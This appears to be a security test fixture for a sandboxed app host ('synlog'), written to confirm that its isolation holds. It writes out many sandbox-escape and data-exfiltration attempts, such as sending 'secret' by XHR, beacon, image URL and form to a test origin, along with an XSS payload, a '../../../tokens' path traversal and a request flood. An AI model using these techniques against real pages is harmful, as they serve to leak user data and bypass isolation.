// A user interface that tries what it must not get. The test reads `results`: what each try
// came to. Nothing here may reach the address that the test listens at.

import { connect } from './synlog/app.js';

const quiet = (ms) => new Promise((done) => setTimeout(done, ms));
const results = {};
window.results = results;

/** Tries something; what comes of it is a text. */
async function tries(name, act) {
  try {
    const it = await Promise.race([act(), quiet(3000).then(() => 'nothing')]);
    results[name] = `got ${typeof it === 'object' ? JSON.stringify(it) : it}`;
  } catch (error) {
    results[name] = `${error.name}: ${error.code ?? ''} ${error.message}`;
  }
}

const app = await connect();
window.app = app;

/** Ways into the owner's page and its browser. */
window.inside = async () => {
  await tries('parent document', () => parent.document.body.textContent);
  await tries('parent variable', () => parent.api);
  await tries('parent storage', () => parent.localStorage.length);
  await tries('top hash', () => top.location.hash);
  await tries('own storage', () => localStorage.length);
  await tries('own cookies', () => document.cookie);
  await tries('own database', () => indexedDB.open('a'));
  await tries('caches', () => caches.open('a'));
  await tries('frame element', () => String(frameElement));
  await tries('alert', () => { alert('1'); return confirm('2'); });
  // the test's own questions are let through; not what comes later
  await tries('eval', async () => { await quiet(1); return (0, eval)('1'); });
  await tries('inline', () => window.__inline);
};

/** Ways out, to an address: `origin` is heard at by the test. */
window.outside = async (origin, pages) => {
  const host = origin.replace('http://', '');
  const element = (name, properties) => new Promise((done, failed) => {
    const made = document.createElement(name);
    made.addEventListener('load', () => done('loaded'));
    made.addEventListener('error', () => failed(new Error('error')));
    Object.assign(made, properties);
    document.body.append(made);
    setTimeout(() => failed(new Error('nothing came')), 700);
  });
  await tries('fetch', () => fetch(`${origin}/fetch`, { mode: 'no-cors' }));
  await tries('fetch api', async () => (await fetch(`${pages}/api/v1/topics`, { credentials: 'include' })).text());
  await tries('fetch own host', async () => (await fetch('/api/v1/topics', { credentials: 'include' })).text());
  await tries('xhr', () => new Promise((done, failed) => {
    const asked = new XMLHttpRequest();
    asked.onload = () => done('loaded');
    asked.onerror = () => failed(new Error('error'));
    asked.open('POST', `${origin}/xhr`);
    asked.send('secret');
  }));
  await tries('socket', () => new Promise((done, failed) => {
    const socket = new WebSocket(`ws://${host}/socket`);
    socket.onopen = () => done('open');
    socket.onerror = () => failed(new Error('error'));
  }));
  await tries('events', () => new Promise((done, failed) => {
    const source = new EventSource(`${origin}/events`);
    source.onopen = () => done('open');
    source.onerror = () => failed(new Error('error'));
  }));
  await tries('beacon', () => navigator.sendBeacon(`${origin}/beacon`, 'secret'));
  await tries('image', () => element('img', { src: `${origin}/image?secret` }));
  await tries('script', () => element('script', { src: `${origin}/script.js` }));
  await tries('style', () => element('link', { rel: 'stylesheet', href: `${origin}/style.css` }));
  await tries('prefetch', () => element('link', { rel: 'prefetch', href: `${origin}/prefetch` }));
  await tries('preload', () => element('link', { rel: 'preload', as: 'image', href: `${origin}/preload` }));
  await tries('modulepreload', () => element('link', { rel: 'modulepreload', href: `${origin}/preload.js` }));
  await tries('icon', () => element('link', { rel: 'icon', href: `${origin}/icon.png` }));
  await tries('manifest', () => element('link', { rel: 'manifest', href: `${origin}/manifest.json` }));
  await tries('frame', () => element('iframe', { src: `${origin}/frame` }));
  await tries('object', () => element('object', { data: `${origin}/object` }));
  await tries('video', () => element('video', { src: `${origin}/video.mp4` }));
  await tries('import', () => import(`${origin}/module.js`));
  await tries('font', () => new FontFace('a', `url(${origin}/font.woff2)`).load());
  await tries('css image', async () => {
    document.body.style.backgroundImage = `url(${origin}/css.png)`;
    await quiet(300);
    return 'tried';
  });
  await tries('worker', () => new Promise((done, failed) => {
    const worker = new Worker(URL.createObjectURL(new Blob([`fetch('${origin}/worker')`])));
    worker.onerror = () => failed(new Error('error'));
  }));
  await tries('service worker', () => navigator.serviceWorker.register('page.js'));
  await tries('window', () => String(window.open(`${origin}/window?secret`)));
  await tries('form', async () => {
    const form = document.getElementById('form');
    for (const target of ['_top', '_blank']) {
      Object.assign(form, { action: `${origin}/form`, target });
      form.submit();
    }
    await quiet(300);
    return 'tried';
  });
  await tries('top', async () => {
    top.location = `${origin}/top?secret`;
    await quiet(300);
    return 'tried';
  });
  await tries('link', async () => {
    const link = document.createElement('a');
    for (const target of ['_top', '_parent', '_blank']) {
      Object.assign(link, { href: `${origin}/link?secret`, ping: `${origin}/ping`, target });
      document.body.append(link);
      link.click();
    }
    await quiet(300);
    return 'tried';
  });
  await tries('download', async () => {
    const link = document.createElement('a');
    Object.assign(link, { href: `data:text/plain,secret`, download: 'a.txt' });
    link.click();
    await quiet(100);
    return 'tried';
  });
  await tries('reporting', async () => {
    document.dispatchEvent(new SecurityPolicyViolationEvent('securitypolicyviolation', { blockedURI: origin }));
    return 'tried';
  });
};

/** A connection that is opened before anybody needs it: no content policy covers it. */
window.beyond = async (origin) => {
  for (const rel of ['dns-prefetch', 'preconnect']) {
    const link = document.createElement('link');
    Object.assign(link, { rel, href: origin });
    document.head.append(link);
  }
  await quiet(800);
};

/** The same over UDP, to a server that is said to be one of STUN. */
window.datagrams = async (port) => {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
  peer.createDataChannel('a');
  await peer.setLocalDescription(await peer.createOffer());
  await quiet(1500);
};

/** What the broker must not do. */
window.asks = async (own, other) => {
  const ask = (name, op, rest) => tries(name, () => app.ask(op, rest));
  await ask('rows', 'rows', { table: 'items', topic: own });
  await ask('undeclared table', 'rows', { table: 'availability', topic: own });
  await ask('table of another app', 'rows', { table: 'orders', topic: other });
  await ask('own table of another topic', 'rows', { table: 'items', topic: other });
  await ask('topic by its name', 'rows', { table: 'items', topic: 'orders' });
  await ask('path for a table', 'rows', { table: '../../../tokens', topic: own });
  await ask('row elsewhere', 'row', { table: 'items', topic: other, key: 'a' });
  await ask('undeclared kind', 'send', { topic: own, kind: 'item.put', body: {} });
  await ask('policy', 'send', { topic: own, kind: 'topic.grant', body: {} });
  await ask('words of a command', 'send', { topic: own, kind: 'item state', body: {} });
  await ask('event elsewhere', 'send', { topic: other, kind: 'item.state', body: { item: 'bread', state: 'paused' } });
  await ask('force', 'send', { topic: own, kind: 'item.state', body: { item: 'nowhere', state: 'paused' }, force: true });
  await ask('unknown op', 'get', { path: '/root/words' });
  await ask('inherited op', 'constructor', {});
  await ask('op that is no text', { toString: 'about' }, {});
  await ask('picture', 'blob', { hash: 'ab'.repeat(32) });
  await ask('screen', 'open', { screen: 'settings', parts: [] });
  await ask('address', 'open', { screen: 'https://example.org', parts: [] });
  await ask('long notice', 'notice', { text: 'a'.repeat(201) });
  await ask('notice', 'notice', { text: '<img src=x onerror="window.__ran = 1">' });
  await ask('endless', 'resize', { height: Infinity });
  await ask('high', 'resize', { height: 1e9 });
  await ask('large', 'send', { topic: own, kind: 'item.state', body: { note: 'a'.repeat(1 << 20) } });
  let deep = {};
  for (let depth = 0; depth < 100; depth += 1) deep = { deep };
  await ask('deep', 'send', { topic: own, kind: 'item.state', body: deep });
  await ask('odd', 'send', { topic: own, kind: 'item.state', body: new Map([['item', 'bread']]) });
  await ask('many watches', 'watch', {});
  for (let number = 0; number < 8; number += 1) await ask('many watches', 'watch', {});
};

/** An event of a kind that it may write: people are asked. */
window.writes = (own) => tries('write', () => app.send(own, 'item.state', { item: 'bread', state: 'paused', reason: '<img src=x onerror="window.__ran = 1">' }));
/** It leaves, in ways that end its page. */
window.going = () => { location.href = window.__elsewhere; };
window.submitting = () => {
  const form = document.getElementById('form');
  Object.assign(form, { action: window.__elsewhere, target: '_self' });
  form.submit();
};
window.flood = () => { for (let number = 0; number < 20000; number += 1) app.ask('resize', { height: 100 + (number % 2) }).catch(() => {}); };
